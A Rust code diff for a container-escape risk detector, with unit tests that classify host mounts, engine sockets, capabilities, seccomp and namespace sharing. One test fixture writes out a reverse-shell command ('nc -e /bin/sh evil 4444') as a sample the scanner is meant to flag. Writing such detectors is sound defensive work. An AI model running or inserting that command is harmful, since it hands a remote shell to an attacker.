@@ -100,11 +100,11 @@ fn comes_with(mount: &Mount, folder: &Mount, name: &str) -> bool {
     let inner = mount.target.strip_prefix(&folder.target).filter(|inner| inner.starts_with('/'));
     let is_there = |inner: &str| {
         let own = name.trim_end_matches('/');
-        mount.on_host.iter().any(|on_host| on_host.strip_prefix(own) == Some(inner))
+        mount.mounted_at.iter().any(|at| at.strip_prefix(own) == Some(inner))
     };
-    // Of the same filesystem it can be one that was mounted for itself, to be written to.
-    let is_weaker = folder.is_writable || !mount.is_writable || folder.device != mount.device;
-    is_weaker && inner.is_some_and(is_there)
+    // Of the host's root folder the container's own, being made, is a part: what is mounted there is not on the host.
+    let is_in_root = inner.is_some() && name == "/" && mount.on_host.is_empty() && mount.lower.is_empty();
+    is_in_root || inner.is_some_and(is_there)
 }
 
 /// The gravest of what a mount is on the host.
@@ -241,5 +241,177 @@ fn is_implied(found: &Kind, said: &[&'static Kind], container: &Container) -> bo
         "host_network" => joins(&given.network_mode),
         "host_ipc" => joins(&given.ipc_mode),
         _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const ID: &str = "3d65924e16f9fb1df6286d681cd884feba4d87bf8af18c2c1d04e8c8ca1b6f1c";
+
+    fn mount(on_host: &str, target: &str, is_writable: bool) -> Mount {
+        Mount {
+            target: target.to_owned(),
+            filesystem: "ext4".to_owned(),
+            is_writable,
+            on_host: vec![on_host.to_owned()],
+            ..Mount::default()
+        }
+    }
+
+    fn plain() -> Evidence {
+        Evidence {
+            guards_proc_sys: true,
+            is_root_mapped: true,
+            cap_effective: 0xa804_25fb,
+            cap_bounding: 0xa804_25fb,
+            uid: Some(0),
+            seccomp: Some(2),
+            ..Evidence::default()
+        }
+    }
+
+    fn found(evidence: &Evidence) -> Vec<(&'static str, String)> {
+        let container = Container { id: ID.to_owned(), ..Container::default() };
+        let host = Host { engine: Some("/opt/engine/own".to_owned()), ..Host::default() };
+        of_evidence(evidence, &host, &container).into_iter().map(|risk| (risk.kind.name, risk.detail)).collect()
+    }
+
+    #[test]
+    fn each_mount_counts_by_where_it_is_on_the_host() {
+        for (on_host, target, writes, kind) in [
+            ("/", "/x", true, "host_root_rw"),
+            ("/", "/x", false, "host_root_ro"),
+            ("/", "/", true, "host_root_rw"),
+            ("/etc", "/x", true, "host_path_rw"),
+            ("/etc", "/x", false, "host_path_ro"),
+            ("/run/docker.sock", "/some/name", false, "engine_socket"),
+            ("/opt/engine/own", "/some/name", false, "engine_socket"),
+            ("/dev/kvm", "/dev/kvm", true, "host_devices"),
+            ("/dev/sda", "/dev/x", true, "host_root_rw"),
+            ("/dev/shm", "/dev/shm", true, "host_ipc"),
+            ("/var/lib/docker/containers/0/hosts", "/etc/hosts", false, "host_path_ro"),
+            ("/usr/sbin", "/x", true, "host_path_rw"),
+        ] {
+            let evidence = Evidence { mounts: vec![mount(on_host, target, writes)], ..plain() };
+            let access = if writes { "rw" } else { "ro" };
+            assert_eq!(found(&evidence), [(kind, format!("{on_host} on {target} ({access})"))], "{on_host}");
+        }
+        let other = "0".repeat(64);
+        for (on_host, target, writes) in [
+            ("/var/lib/docker/overlay2/x/merged", "/", true),
+            ("/var/lib/docker/volumes/data/_data", "/data", true),
+            ("/var/lib/docker/volumes/data/_data/part", "/data", true),
+            (&format!("/var/lib/docker/plugins/{other}/propagated-mount/data"), "/data", true),
+            (&format!("/var/lib/docker/containers/{ID}/hosts"), "/etc/hosts", true),
+            (&format!("/var/lib/docker/containers/{other}/hosts"), "/etc/hosts", true),
+            (&format!("/var/lib/docker/containers/{other}/mounts/shm"), "/dev/shm", true),
+            (
+                &format!("/run/containers/storage/overlay-containers/{ID}/userdata/.containerenv"),
+                "/run/.containerenv",
+                true,
+            ),
+            ("/usr/bin/tini-static", "/sbin/docker-init", false),
+            ("/usr/lib/x86_64-linux-gnu/libcuda.so.1", "/usr/lib64/libcuda.so.1", false),
+            ("/dev/null", "/dev/null", true),
+            ("/srv/data", "/x", true),
+        ] {
+            assert_eq!(found(&Evidence { mounts: vec![mount(on_host, target, writes)], ..plain() }), [], "{on_host}");
+        }
+    }
+
+    #[test]
+    fn a_second_proc_and_the_layers_of_an_overlay_are_seen() {
+        let special = |filesystem: &str, target: &str, is_writable| Mount {
+            filesystem: filesystem.to_owned(),
+            target: target.to_owned(),
+            is_writable,
+            ..Mount::default()
+        };
+        let kinds = |mounts: Vec<Mount>| -> Vec<&'static str> {
+            found(&Evidence { mounts, ..plain() }).into_iter().map(|(kind, _)| kind).collect()
+        };
+        assert_eq!(kinds(vec![special("proc", "/x", true)]), ["host_path_rw"]);
+        assert_eq!(kinds(vec![special("sysfs", "/x", true)]), ["host_path_rw"]);
+        let usual = [
+            special("proc", "/proc", true),
+            special("sysfs", "/sys", false),
+            special("cgroup2", "/sys/fs/cgroup", false),
+        ];
+        assert_eq!(kinds(usual.to_vec()), Vec::<&str>::new());
+        let overlay =
+            |lower: &str, target: &str| Mount { lower: vec![lower.to_owned()], ..special("overlay", target, true) };
+        assert_eq!(kinds(vec![overlay("/etc", "/x")]), ["host_path_rw"]);
+        assert_eq!(kinds(vec![overlay("/", "/")]), ["host_root_rw"]);
+        assert_eq!(kinds(vec![overlay("/var/lib/docker/overlay2/l/ABC", "/")]), Vec::<&str>::new());
+    }
+
+    #[test]
+    fn what_comes_with_a_folder_is_not_found_a_second_time() {
+        let run = Mount { mounted_at: vec!["/run".to_owned()], ..mount("/run", "/x/run", true) };
+        let mounts = vec![mount("/", "/x", true), run, mount("/etc", "/x/etc", true)];
+        let details: Vec<String> =
+            found(&Evidence { mounts, ..plain() }).into_iter().map(|(_, detail)| detail).collect();
+        assert_eq!(details, ["/ on /x (rw)", "/etc on /x/etc (rw)"]);
+    }
+
+    #[test]
+    fn a_process_is_found_by_what_it_may() {
+        assert_eq!(found(&plain()), []);
+        let bit = |number: u32| 1_u64 << number;
+        for (evidence, kind, detail) in [
+            (Evidence { cap_effective: plain().cap_effective | bit(21), ..plain() }, "all_capabilities", "SYS_ADMIN"),
+            (Evidence { cap_effective: bit(19) | bit(39), ..plain() }, "dangerous_capabilities", "SYS_PTRACE, BPF"),
+            (
+                Evidence { uid: Some(7), cap_effective: 0, cap_bounding: bit(19), ..plain() },
+                "dangerous_capabilities",
+                "SYS_PTRACE",
+            ),
+            (Evidence { seccomp: Some(0), ..plain() }, "seccomp_unconfined", "no filter"),
+            (Evidence { guards_proc_sys: false, ..plain() }, "system_paths_unconfined", "/proc/sys may be written to"),
+            (Evidence { is_in_host_pids: true, ..plain() }, "host_pid", "has the host's processes"),
+            (Evidence { is_in_host_network: true, ..plain() }, "host_network", "has the host's interfaces"),
+            (
+                Evidence { command: "nc -e /bin/sh evil 4444".to_owned(), ..plain() },
+                "command_tool",
+                "nc -e /bin/sh evil 4444",
+            ),
+        ] {
+            assert_eq!(found(&evidence), [(kind, detail.to_owned())]);
+        }
+        // Without effect: root only could have it, users are mapped, or the kernel has no filters.
+        assert_eq!(found(&Evidence { cap_bounding: u64::MAX, ..plain() }), []);
+        assert_eq!(found(&Evidence { is_root_mapped: false, cap_effective: u64::MAX, ..plain() }), []);
+        assert_eq!(found(&Evidence { seccomp: None, ..plain() }), []);
+    }
+
+    #[test]
+    fn only_what_the_engine_does_not_say_is_added_and_contradicts_it() {
+        let risk = |kind, detail: &str| Risk { kind, detail: detail.to_owned() };
+        let merged = |engine: &[&'static Kind], kernel: &[&'static Kind], mode: &str| {
+            let mut container = Container::default();
+            mode.clone_into(&mut container.host_config.pid_mode);
+            let of = |kinds: &[&'static Kind], detail| kinds.iter().map(|kind| risk(kind, detail)).collect();
+            let merged = merge(of(engine, "engine"), of(kernel, "kernel"), &container);
+            let texts: Vec<String> =
+                merged.risks.iter().map(|risk| format!("{}: {}", risk.kind.name, risk.detail)).collect();
+            (texts.join("; "), merged.kernel_only.join(", "))
+        };
+        let text = |one: &str, other: &str| (one.to_owned(), other.to_owned());
+        assert_eq!(merged(&[&kind::host_pid], &[&kind::host_pid], ""), text("host_pid: engine", ""));
+        assert_eq!(
+            merged(&[&kind::privileged], &[&kind::all_capabilities, &kind::seccomp_unconfined], ""),
+            text("privileged: engine", "")
+        );
+        assert_eq!(merged(&[], &[&kind::host_pid], "container:x"), text("", ""));
+        assert_eq!(
+            merged(&[&kind::host_path_ro], &[&kind::host_root_rw], ""),
+            text("host_root_rw: kernel; engine_disagrees: host_root_rw: kernel; host_path_ro: engine", "host_root_rw")
+        );
+        assert_eq!(
+            merged(&[], &[&kind::seccomp_unconfined], ""),
+            text("seccomp_unconfined: kernel", "seccomp_unconfined")
+        );
     }
 }
